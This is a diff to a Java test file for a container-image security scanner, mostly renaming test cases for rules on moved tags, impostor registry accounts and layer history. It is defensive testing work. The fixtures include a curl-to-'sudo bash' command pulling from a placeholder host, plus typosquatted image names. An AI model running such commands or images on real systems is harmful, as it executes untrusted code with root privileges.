@@ -38,7 +38,7 @@ class ImageRulesTest {
     @TempDir(factory = MemoryFolders.class)
     Path folder;
 
-    /** What there is, and the findings beside IMG-002 that must come of it: no others. */
+    /** Fixture with the complete list of expected findings, without IMG-002. */
     record Case(String name, ImageFixture stage, List<String> expected) {
         @Override
         public String toString() {
@@ -90,7 +90,7 @@ class ImageRulesTest {
                         runs("mcr.microsoft.com/azuredocs/aci-wordcount")),
                 silent("a tag that begins with latest", runs(ECR + "shop/app:latest-2026.11")),
                 silent("the latest, by digest", runs(ECR + "shop/app:latest@" + A)),
-                silent("a registry with a port and no tag is read right", runs(ECR + "shop/app:1.4")),
+                silent("a registry with a port", runs(ECR + "shop/app:1.4")),
                 found("the tag was moved", "IMG-003 high", registry(ImageFixture.tag("1.4", B, RECENT))),
                 found("the tag was moved long ago", "IMG-003 low", registry(ImageFixture.tag("1.4", B, LONG_AGO))),
                 silent("the tag leads to what runs", registry(ImageFixture.tag("1.4", A, RECENT))),
@@ -123,7 +123,7 @@ class ImageRulesTest {
                                 .task("service:web", APP, B)
                                 .pinned(APP, A)
                                 .pinned(APP, B)),
-                silent("replicas are alike", runs(APP).task("service:web", APP, A)),
+                silent("replicas with the same image", runs(APP).task("service:web", APP, A)),
                 silent("two releases of a deployment", runs(APP).task("service:web", ECR + "shop/app:1.5", B)),
                 found(
                         "two pods of a replica set",
@@ -151,15 +151,15 @@ class ImageRulesTest {
                 silent(
                         "another image is deleted",
                         runs(APP).image(APP, A, ImageFixture.tag("1.4", A, LONG_AGO), ImageFixture.notFound(B))),
-                found("somebody's image at Docker Hub", "IMG-006 high", runs("user/secret:user")),
+                found("unknown account at Docker Hub", "IMG-006 high", runs("user/secret:user")),
                 found("an impostor", "IMG-006 high", runs("docker.io/x/kube-proxy:v1.34")),
                 silent("an official image", runs("docker.io/library/redis:8.2")),
                 silent("a vendor's", runs("public.ecr.aws/aws-observability/aws-for-fluent-bit:stable")),
                 silent("X-Ray's daemon", runs("public.ecr.aws/xray/aws-xray-daemon:3.x")),
                 found("Datadog's agent at Docker Hub", "IMG-006 low", runs("datadog/agent:7")),
-                found("whoever is named almost like Datadog", "IMG-006 high", runs("datadogg/agent:7")),
+                found("an account with a name similar to Datadog", "IMG-006 high", runs("datadogg/agent:7")),
                 found("an exporter at quay.io", "IMG-006 low", runs("quay.io/prometheus/node-exporter:v1.8.1")),
-                found("somebody's at quay.io", "IMG-006 medium", runs("quay.io/somebody/app:1")),
+                found("unknown account at quay.io", "IMG-006 medium", runs("quay.io/unknown/app:1")),
                 found(
                         "of another account",
                         "IMG-006 medium",
@@ -167,9 +167,9 @@ class ImageRulesTest {
                 silent(
                         "GuardDuty's agent in Frankfurt",
                         runs("323658145986.dkr.ecr.eu-central-1.amazonaws.com/aws-guardduty-agent-fargate:v1.7.0")),
-                found("a registry of Azure beside a task of AWS", "IMG-006 low", runs("evil.azurecr.io/shop/app:1")),
+                found("a registry of Azure for a task of AWS", "IMG-006 low", runs("evil.azurecr.io/shop/app:1")),
                 silent(
-                        "a registry of Azure beside a group",
+                        "a registry of Azure for a group",
                         runs("shop.azurecr.io/shop/app:1").target(GROUP, "/subscriptions/s")),
                 silent("a cluster known by its ARN", runs(APP).target(POD, "k8s://" + CLUSTER + "/shop/app-1")),
                 found(
@@ -181,31 +181,31 @@ class ImageRulesTest {
                         "a cluster of which no account is known",
                         "IMG-006 low",
                         runs(APP).target(POD, "k8s://prod/shop/app-1")),
-                found("a registry that nobody knows", "IMG-006 low", runs("harbor.shop.example/shop/app:1")),
+                found("an unknown registry", "IMG-006 low", runs("harbor.shop.example/shop/app:1")),
                 found(
-                        "somebody's image that was used for weeks",
+                        "an image of an unknown account that was used for weeks",
                         "IMG-006 low",
-                        runs("somebody/agent:1").earlier(LONG_AGO, "somebody/agent:0.9")),
+                        runs("unknown/agent:1").earlier(LONG_AGO, "unknown/agent:0.9")),
                 found(
-                        "somebody's image that was registered twice today",
+                        "an image of an unknown account that was registered twice today",
                         "IMG-006 high",
                         runs("user/secret:user").earlier(RECENT, "user/secret:user")),
                 found(
-                        "almost an own name",
+                        "a name similar to an own name",
                         "IMG-006 high",
                         runs("quay.io/shop/chekout:1").earlier(LONG_AGO, ECR + "shop/checkout:1")),
-                silent("two own names that are alike", runs(APP).task("service:web", ECR + "shop/apq:1.4", B)),
+                silent("two similar own names", runs(APP).task("service:web", ECR + "shop/apq:1.4", B)),
                 found(
                         "a layer from a script",
                         "IMG-007 medium",
-                        config(
-                                "{\"history\":[{\"created_by\":\"RUN curl -fsSL 'http://x.example/i?a=1&b=2' | sudo bash -s\"}]}")),
+                        config("{\"history\":[{\"created_by\":\"RUN curl -fsSL 'http://x.example/i?a=1&b=2' | sudo"
+                                + " bash -s\"}]}")),
                 silent(
                         "a download that is unpacked",
-                        config(
-                                "{\"history\":[{\"created_by\":\"RUN curl -fsSL http://x.example/a.tgz | tar xz; sh a.sh\"}]}")),
+                        config("{\"history\":[{\"created_by\":\"RUN curl -fsSL http://x.example/a.tgz | tar xz; sh"
+                                + " a.sh\"}]}")),
                 silent(
-                        "a download beside a pipe into a shell",
+                        "a download next to a pipe into a shell",
                         config("{\"history\":[{\"created_by\":\"RUN curl -o a http://x && cat b | sh\"}]}")),
                 found("from the future", "IMG-007 medium", config("{\"created\":\"2027-01-01T00:00:00Z\"}")),
                 found("a reproducible build", "IMG-007 info", config("{\"created\":\"1970-01-01T00:00:00Z\"}")),
@@ -238,28 +238,28 @@ class ImageRulesTest {
 
     @ParameterizedTest
     @MethodSource("cases")
-    void judges(Case one) {
+    void findsExpectedFindings(Case one) {
         List<Finding> findings = new ArrayList<>(one.stage().judge(folder).findings());
         findings.removeIf(finding -> finding.rule().id().equals("IMG-002"));
         assertThat(ImageFixture.shown(findings)).isEqualTo(one.expected());
     }
 
     @Test
-    void aNameWithoutADigestIsTold() {
+    void reportsNameWithoutDigest() {
         assertThat(ImageFixture.shown(runs(APP).judge(folder.resolve("a")).findings()))
                 .containsExactly("IMG-002 info");
         assertThat(runs(APP + "@" + A).judge(folder.resolve("b")).findings()).isEmpty();
     }
 
     @Test
-    void whatRanUnknownIsAGap() {
+    void reportsUnknownDigest() {
         ImageFixture stage = new ImageFixture().task("service:web", APP, "");
-        assertThat(stage.judge(folder.resolve("a")).gaps().toString()).contains("IMG-009", "nobody can prove");
+        assertThat(stage.judge(folder.resolve("a")).gaps().toString()).contains("IMG-009");
         assertThat(runs(APP).judge(folder.resolve("b")).gaps().toString()).doesNotContain("IMG-009");
     }
 
     @Test
-    void whoPushedIsNamed() {
+    void identifiesPrincipalOfPush() {
         ImageFixture stage = registry(ImageFixture.tag("1.4", B, RECENT))
                 .call(FixtureCalls.trail(
                         "e-1",
@@ -268,7 +268,7 @@ class ImageRulesTest {
                         "ecr.amazonaws.com",
                         "PutImage",
                         "{\"repositoryName\":\"shop/app\",\"imageTag\":\"1.4\"}"))
-                // A repository of the same name in another region is another one.
+                // A repository of the same name in another region is a different repository.
                 .call(FixtureCalls.trail(
                                 "e-2",
                                 RECENT.plusSeconds(60),
@@ -284,20 +284,20 @@ class ImageRulesTest {
     }
 
     @Test
-    void aTagThatIsGoneIsKnownToBe() {
+    void reportsDeletedTag() {
         String gaps = runs(APP)
                 .image(APP, A, new Outcome.Collected("the manifest has its digest; the tag 1.4 exists no more"))
                 .judge(folder)
                 .gaps()
                 .toString();
         assertThat(gaps)
-                .contains(
-                        "app:1.4: the tag 1.4 exists no more: who took it away, and whether it led elsewhere before, is not known")
-                .doesNotContain("what the tag points to now");
+                .contains("app:1.4: the tag 1.4 does not exist any more: the principal that deleted it, and its earlier"
+                        + " image, are unknown")
+                .doesNotContain("to which the tag points now");
     }
 
     @Test
-    void whatCannotBeJudgedIsAGap() {
+    void reportsMissingEvidence() {
         String gaps = runs(APP)
                 .image(APP, A, new Outcome.Denied("ecr:BatchGetImage", "ecr:BatchGetImage is missing"))
                 .judge(folder)
@@ -307,11 +307,11 @@ class ImageRulesTest {
     }
 
     @Test
-    void everyRuleHasAPositiveCase() {
+    void hasPositiveCaseForEachRule() {
         Set<String> seen = cases().flatMap(one -> one.expected().stream())
                 .map(expected -> expected.substring(0, 7))
                 .collect(Collectors.toCollection(TreeSet::new));
-        // Told of each name, and a gap: they have tests of their own.
+        // IMG-002 is reported for each name, and IMG-009 is a gap. Both have separate tests.
         seen.addAll(List.of("IMG-002", "IMG-009"));
         assertThat(seen)
                 .isEqualTo(RuleBook.standard().all().stream()
